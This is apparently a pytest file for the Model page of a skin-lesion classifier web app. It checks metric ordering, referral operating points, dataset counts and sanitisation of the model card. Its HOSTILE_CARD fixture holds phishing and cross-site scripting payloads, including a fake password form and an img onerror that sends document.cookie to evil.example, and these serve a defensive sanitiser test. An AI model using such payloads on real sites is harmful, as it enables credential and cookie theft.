"""The Model page on the embedded defaults: held-out figures first, operating points, the card without inline
styles (the Content Security Policy blocks them), and the deployment's chosen referral point."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from test_pages_fast import make_user, sign_in

from web.pages.model import render_markdown

POINTS = [
    {"target_sensitivity": 0.9, "threshold": 0.31, "sensitivity": 0.91, "specificity": 0.72, "flag_rate": 0.33},
    {"target_sensitivity": 0.95, "threshold": 0.18, "sensitivity": 0.95, "specificity": 0.61, "flag_rate": 0.42},
]


def test_markdown_tables_align_with_classes_not_styles() -> None:
    html = str(render_markdown("| metric | value |\n|---|---:|\n| AUC | 0.9 |\n"))
    assert "style=" not in html
    assert 'class="align-right"' in html


def _bundle_folder(settings: Any) -> Path:
    """The folder the fast layer's production model row points at, with bundle metadata and a card."""
    from skinscan.db import session_scope
    from skinscan.tables import ModelVersion

    with session_scope(settings) as session:
        folder = Path(session.query(ModelVersion).filter_by(status="production").one().path)
    meta = {
        "name": "skinscan-test", "version": "test-model", "architecture": "tf_efficientnet_lite0",
        "input_size": 160, "resize_size": 160, "classes": ["akiec", "bcc", "bkl", "df", "mel", "nv", "vasc"],
        "malignant_classes": ["akiec", "bcc", "mel"], "temperature": 1.2,
        "colour_constancy": {"method": "none", "power": 6.0},
        "referral": {"malignancy_threshold": 0.31, "target_malignant_sensitivity": 0.9, "uncertain_below": 0.5,
                     "operating_points": POINTS, "chosen_on": "HAM10000 validation split"},
        "training_data": {"dataset": "HAM10000", "split": "lesion-grouped", "licence": "CC BY-NC-SA 4.0",
                          "counts": {"HAM10000": {"train": 7000, "val": 1430, "test": 1431},
                                     "ISIC-2017_Training_Part3_GroundTruth.csv": {"train": 1995}}},
        "metrics": {"validation": {"balanced_accuracy": 0.7},
                    "evaluations": {"HAM10000 test": {"n_images": 1431, "balanced_accuracy": 0.77},
                                    "ISIC 2017 test": {"n_images": 600, "melanoma_only": True,
                                                       "balanced_accuracy": 0.692, "melanoma_auc": 0.78}}},
    }
    (folder / "metadata.json").write_text(json.dumps(meta))
    (folder / "MODEL_CARD.md").write_text("# Card\n\n| metric | value |\n|---|---:|\n| AUC | 0.9 |\n")
    return folder


@pytest.mark.parametrize("sensitivity,in_use", [(None, "0.310"), ("0.95", "0.180")])
def test_model_page_shows_test_figures_points_and_counts(app: Flask, settings: Any, sensitivity: str | None,
                                                         in_use: str) -> None:
    _bundle_folder(settings)
    if sensitivity:
        from tests_helpers import replace

        app.extensions["skinscan.settings"] = replace(app.extensions["skinscan.settings"],
                                                      referral_sensitivity=float(sensitivity))
    _clinic, _key, email = make_user(settings)
    client = app.test_client()
    sign_in(client, email)
    page = client.get("/model")
    assert page.status_code == 200
    html = page.text
    assert "Referral operating points" in html and "style=" not in html.split("<main", 1)[-1]
    assert html.index("HAM10000 test") < html.index("Validation split")  # held-out figures come first
    assert "HAM10000: 7,000 training images, 1,430 validation, 1,431 test" in html
    assert "ISIC-2017_Training_Part3_GroundTruth.csv: 1,995 training images" in html
    assert f"<strong>{in_use}</strong>" in html
    assert "77.0%" in html and "69.2%" not in html  # no multiclass figure for a melanoma-only set


HOSTILE_CARD = """# Card

Please sign in again:

<form action="https://evil.example/steal" method="post"><input name="password" type="password">
<button formaction="https://evil.example/b">Sign in</button></form>

<img src="missing.png" onerror="fetch('https://evil.example/'+document.cookie)">
<iframe src="https://evil.example/"></iframe><script>alert(1)</script><style>main{display:none}</style>

[details](javascript:alert(1)) and [the paper](https://example.org/paper)

| metric | value |
|---|---:|
| AUC | 0.9 |
"""


def test_model_card_html_is_sanitised(app: Flask, settings: Any) -> None:
    """A card holding a form, an <img onerror>, a frame, a script, a style and a javascript: link shows none of
    them on the Model page; its text, table alignment and ordinary links stay."""
    folder = _bundle_folder(settings)
    (folder / "MODEL_CARD.md").write_text(HOSTILE_CARD)
    _clinic, _key, email = make_user(settings)
    client = app.test_client()
    sign_in(client, email)
    page = client.get("/model")
    assert page.status_code == 200
    main = page.text.split("<main", 1)[1]
    for injected in ("evil.example", "<form action", "<input name=\"password\"", "onerror", "<iframe", "<script>",
                     "alert(1)", "<style>", "javascript:"):
        assert injected not in main, injected
    assert "Please sign in again" in main and 'class="align-right"' in main
    assert '<a href="https://example.org/paper" rel="noopener noreferrer">the paper</a>' in main
    assert '<img src="missing.png">' in main
